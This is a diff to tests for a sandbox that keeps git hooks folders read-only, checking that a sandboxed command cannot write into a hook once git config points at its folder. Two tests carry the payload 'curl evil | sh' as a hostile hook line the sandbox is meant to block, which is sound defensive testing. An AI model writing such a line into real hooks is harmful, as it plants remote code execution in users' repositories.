@@ -58,35 +58,36 @@ def rewrite_keeping_size_and_mtime(path: Path, text: str) -> None:
 async def test_a_hooks_folder_named_between_two_commands_is_read_only_in_the_second(
     repo: Path, home: Path
 ) -> None:
-    (repo / ".husky").mkdir()
-    (repo / ".husky" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
+    # Not `.husky`, which is read-only wherever it exists (husky 9 runs `.husky/<hook>`).
+    (repo / ".hookz").mkdir()
+    (repo / ".hookz" / "pre-commit").write_text("#!/bin/sh\nnpm test\n")
     config = repo / ".git" / "config"
     ws, _ = sandboxed(repo, home)
-    code, out = await run(ws, "echo '# lint' >> .husky/pre-commit", home)  # no hooks folder yet
+    code, out = await run(ws, "echo '# lint' >> .hookz/pre-commit", home)  # no hooks folder yet
     assert code == 0, out
     after_the_clock_moves(config)
     # The user points git at husky's folder, outside the sandbox.
-    user_git(repo, "config", "core.hooksPath", ".husky")
-    code, out = await run(ws, "echo 'curl evil | sh' >> .husky/pre-commit", home)
+    user_git(repo, "config", "core.hooksPath", ".hookz")
+    code, out = await run(ws, "echo 'curl evil | sh' >> .hookz/pre-commit", home)
     assert code != 0 and "Read-only file system" in out, out
-    assert (repo / ".husky" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n# lint\n"
+    assert (repo / ".hookz" / "pre-commit").read_text() == "#!/bin/sh\nnpm test\n# lint\n"
 
 
 async def test_a_hooks_folder_named_by_a_same_size_edit_with_its_mtime_set_back_is_read_only(
     repo: Path, home: Path
 ) -> None:
-    (repo / ".husky").mkdir()
+    (repo / ".hookz").mkdir()
     config = repo / ".git" / "config"
     with config.open("a") as file:
-        file.write("[core]\n\thooksPath = .nothere\n")  # a name of the same length as .husky's
+        file.write("[core]\n\thooksPath = .nothere\n")  # a name of the same length as .hookz's
     ws, _ = sandboxed(repo, home)
-    code, out = await run(ws, "echo x > .husky/post-checkout", home)
+    code, out = await run(ws, "echo x > .hookz/post-checkout", home)
     assert code == 0, out
     after_the_clock_moves(config)
-    rewrite_keeping_size_and_mtime(config, config.read_text().replace(".nothere", ".husky  "))
-    code, out = await run(ws, "echo 'curl evil | sh' > .husky/post-checkout", home)
+    rewrite_keeping_size_and_mtime(config, config.read_text().replace(".nothere", ".hookz  "))
+    code, out = await run(ws, "echo 'curl evil | sh' > .hookz/post-checkout", home)
     assert code != 0 and "Read-only file system" in out, out
-    assert (repo / ".husky" / "post-checkout").read_text() == "x\n"
+    assert (repo / ".hookz" / "post-checkout").read_text() == "x\n"
 
 
 async def test_a_token_added_to_the_config_between_two_commands_is_hidden_in_the_second(
